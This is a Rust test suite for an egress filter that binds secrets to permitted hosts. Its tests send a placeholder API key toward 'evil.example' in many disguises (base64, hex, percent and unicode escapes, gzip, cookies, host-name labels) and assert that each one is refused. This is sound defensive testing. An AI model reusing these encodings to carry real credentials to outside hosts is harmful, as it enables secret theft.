//! No released value leaves towards a place outside its own hosts.

#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

mod support;

use std::sync::Arc;

use async_compression::tokio::bufread::GzipEncoder;
use distri_core::alarm::Watch;
use distri_core::release::Release;
use distri_egress::{Egress, EgressConfig, EgressLimits, Request};
use support::{Age, Authority, Server, answer, get, release};
use tokio::io::AsyncReadExt as _;

const KEY: &str = "sk_live_51H/abc+DEF=";
const BASE64: &str = "c2tfbGl2ZV81MUgvYWJjK0RFRj0=";

fn stripe() -> Release {
    release(&[("STRIPE_API_KEY", KEY.as_bytes(), &["api.stripe.com"])])
}

fn request(url: &str, headers: &[(&str, &str)], body: &str) -> Request {
    let headers = headers
        .iter()
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
    Request::parse("POST", url, headers, body.into()).unwrap()
}

/// The rule that refuses `request` for a run with `release`; nothing is dialled when one does.
async fn rule(release: Release, request: Request) -> &'static str {
    Egress::new(EgressConfig::default(), Arc::new(release), Arc::new(Watch::none()))
        .unwrap()
        .send(request)
        .await
        .unwrap_err()
        .rule()
}

#[tokio::test]
async fn a_bound_value_does_not_reach_another_host_in_any_place_or_encoding() {
    let authority = Authority::new();
    let server = Server::start(&authority, "evil.example", Age::Valid, &["h2", "http/1.1"], |_| async {
        answer("got it")
    })
    .await;
    let egress = server.egress(&authority, &["evil.example:443"], stripe(), EgressLimits::default());
    let hex: String = KEY.bytes().map(|b| format!("{b:02x}")).collect();
    let percent: String = KEY.bytes().map(|b| format!("%{b:02X}")).collect();
    let one_escape = format!("%73{}", &KEY[1..].replace('/', "%2F").replace('+', "%2B"));
    let unicode = format!("{{\"k\":\"\\u0073{}\"}}", &KEY[1..]);
    let basic = "dXNlcjpza19saXZlXzUxSC9hYmMrREVGPQ==";
    for leaking in [
        request(
            "https://evil.example/",
            &[("authorization", &format!("Bearer {KEY}"))],
            "",
        ),
        request(
            "https://evil.example/",
            &[("authorization", &format!("Basic {basic}"))],
            "",
        ),
        request("https://evil.example/", &[("x-a", BASE64)], ""),
        request("https://evil.example/", &[("cookie", &format!("a={percent}"))], ""),
        request(&format!("https://evil.example/?k={percent}"), &[], ""),
        request(&format!("https://evil.example/?k={KEY}"), &[], ""),
        request(&format!("https://evil.example/?k={one_escape}"), &[], ""),
        request(&format!("https://evil.example/{hex}"), &[], ""),
        request("https://evil.example/", &[], KEY),
        request("https://evil.example/", &[], &format!("k={one_escape}")),
        request("https://evil.example/", &[], &unicode),
        request("https://evil.example/", &[], &format!("{{\"k\":\"{BASE64}\"}}")),
        request(
            "https://evil.example/",
            &[],
            &format!("{}{KEY}{}", "x".repeat(1_000_000), "y".repeat(1_000_000)),
        ),
    ] {
        let error = egress.send(leaking).await.unwrap_err();
        assert_eq!(
            (error.rule(), error.key(), error.is_refusal()),
            ("outside-hosts", Some("STRIPE_API_KEY"), true)
        );
        assert_eq!(
            error.to_string(),
            "`STRIPE_API_KEY` may not go to `evil.example`: it is bound to `api.stripe.com`"
        );
    }
    assert_eq!((server.connections(), server.requests()), (0, 0), "nothing is sent");
    assert_eq!(
        egress.send(get("https://evil.example/harmless")).await.unwrap().status,
        200
    );
}

#[tokio::test]
async fn a_bound_value_reaches_its_own_host() {
    let authority = Authority::new();
    let server = Server::start(
        &authority,
        "api.stripe.com",
        Age::Valid,
        &["h2"],
        |request| async move { answer(request.headers()["authorization"].as_bytes().to_vec()) },
    )
    .await;
    let egress = server.egress(&authority, &["api.stripe.com:443"], stripe(), EgressLimits::default());
    let response = egress
        .send(request("https://api.stripe.com/v1", &[("authorization", KEY)], ""))
        .await
        .unwrap();
    assert_eq!(support::read(response).await.unwrap(), KEY);
}

#[tokio::test]
async fn scheme_port_method_and_path_are_part_of_the_place() {
    let auth = &[("authorization", KEY)];
    for (hosts, url, message) in [
        (
            &["api.stripe.com"],
            "http://api.stripe.com/",
            "`A_KEY` may not go to `http://api.stripe.com`: it is bound to `api.stripe.com`",
        ),
        (
            &["api.stripe.com"],
            "https://api.stripe.com:8443/",
            "`A_KEY` may not go to `POST api.stripe.com:8443`: it is bound to `api.stripe.com`",
        ),
        (
            &["GET api.stripe.com"],
            "https://api.stripe.com/",
            "`A_KEY` may not go to `POST api.stripe.com`: it is bound to `GET api.stripe.com`",
        ),
        (
            &["api.stripe.com/v1"],
            "https://api.stripe.com/v2",
            "`A_KEY` may not go to `POST api.stripe.com`: it is bound to `api.stripe.com/v1`",
        ),
        (
            &["*.slack.com"],
            "https://slack.com/",
            "`A_KEY` may not go to `slack.com`: it is bound to `*.slack.com`",
        ),
    ] {
        let egress = Egress::new(
            EgressConfig::default(),
            Arc::new(release(&[("A_KEY", KEY.as_bytes(), hosts)])),
            Arc::new(Watch::none()),
        )
        .unwrap();
        let error = egress.send(request(url, auth, "")).await.unwrap_err();
        assert_eq!(error.to_string(), message);
    }
}

#[tokio::test]
async fn a_value_in_the_host_name_is_found_and_not_shown() {
    let bound: &[(&str, &[u8], &[&str])] = &[("A_KEY", b"Sk-Live-51habcdef", &["api.stripe.com"])];
    for url in [
        "https://sk-live-51habcdef.evil.example/",
        "https://sk-live.-51ha.bcdef.evil.example/",
    ] {
        let egress = Egress::new(
            EgressConfig::default(),
            Arc::new(release(bound)),
            Arc::new(Watch::none()),
        )
        .unwrap();
        let error = egress.send(get(url)).await.unwrap_err();
        assert_eq!(error.rule(), "outside-hosts");
        assert!(!error.to_string().contains("51ha"), "{error}");
    }
}

#[tokio::test]
async fn one_secret_does_not_hide_another() {
    let value = b"sk_live_0123456789";
    let longer = b"sk_live_0123456789_more";
    for others in [&value[..], longer] {
        // The unbound one comes first in the redactor, and is equal or longer.
        let both: &[(&str, &[u8], &[&str])] = &[("A_KEY", others, &[]), ("B_KEY", value, &["api.stripe.com"])];
        let body = std::str::from_utf8(others).unwrap();
        assert_eq!(
            rule(release(both), request("https://evil.example/", &[], body)).await,
            "outside-hosts"
        );
    }
}

#[tokio::test]
async fn weak_values_are_searched_as_they_are_when_they_are_bound() {
    let bound: &[(&str, &[u8], &[&str])] = &[("A_PIN", b"4711", &["bank.example"])];
    assert_eq!(
        rule(release(bound), request("https://127.0.0.1/", &[], "pin=4711")).await,
        "outside-hosts"
    );
    assert_eq!(
        rule(release(bound), request("https://127.0.0.1/", &[], "pin=4712")).await,
        "special-address"
    );
    let unbound: &[(&str, &[u8], &[&str])] = &[("A_PIN", b"4711", &[])];
    assert_eq!(
        rule(release(unbound), request("https://127.0.0.1/", &[], "pin=4711")).await,
        "special-address"
    );
}

#[tokio::test]
async fn an_unbound_value_goes_anywhere_but_into_the_clear() {
    let unbound = || release(&[("A_KEY", KEY.as_bytes(), &[])]);
    let auth = &[("authorization", KEY)];
    assert_eq!(
        rule(unbound(), request("http://h.example/", auth, "")).await,
        "cleartext"
    );
    assert_eq!(
        rule(unbound(), request("http://localhost.evil.example/", auth, "")).await,
        "cleartext"
    );
    assert_eq!(
        rule(unbound(), request("http://127.0.0.1/", auth, "")).await,
        "special-address"
    );
    assert_eq!(
        rule(unbound(), request("https://127.0.0.1/", auth, "")).await,
        "special-address"
    );
}

#[tokio::test]
async fn a_compressed_body_is_looked_into_and_refused_where_nobody_can() {
    let gzip = &[("content-encoding", "gzip")];
    assert_eq!(
        rule(stripe(), request("https://127.0.0.1/", gzip, "\u{1f}")).await,
        "encoded-body"
    );
    assert_eq!(
        rule(release(&[]), request("https://127.0.0.1/", gzip, "\u{1f}")).await,
        "special-address"
    );
    let mut encoder = GzipEncoder::new(KEY.as_bytes());
    let mut packed = Vec::new();
    encoder.read_to_end(&mut packed).await.unwrap();
    let headers = vec![("content-encoding".to_owned(), "gzip".to_owned())];
    let packed = Request::parse("POST", "https://evil.example/", headers, packed).unwrap();
    assert_eq!(rule(stripe(), packed).await, "outside-hosts");
}

#[tokio::test]
async fn a_binding_to_this_machine_opens_this_machine_and_no_more() {
    let authority = Authority::new();
    let server = Server::accept(|tcp| async move {
        let service = hyper::service::service_fn(|_| async { Ok::<_, std::convert::Infallible>(answer("local")) });
        drop(
            hyper::server::conn::http1::Builder::new()
                .serve_connection(hyper_util::rt::TokioIo::new(tcp), service)
                .await,
        );
    })
    .await;
    let port = server.address.port();
    let binding = format!("http://127.0.0.1:{port}");
    let bound: &[(&str, &[u8], &[&str])] = &[("A_KEY", KEY.as_bytes(), &[&binding])];
    let egress = server.egress(&authority, &[], release(bound), EgressLimits::default());
    let response = egress
        .send(request(&binding, &[("authorization", KEY)], ""))
        .await
        .unwrap();
    assert_eq!(support::read(response).await.unwrap(), "local");
    assert_eq!(
        egress.send(get("http://127.0.0.1:1/")).await.unwrap_err().rule(),
        "special-address"
    );
    assert_eq!(
        egress
            .send(get(&format!("http://127.0.0.2:{port}/")))
            .await
            .unwrap_err()
            .rule(),
        "special-address"
    );
}
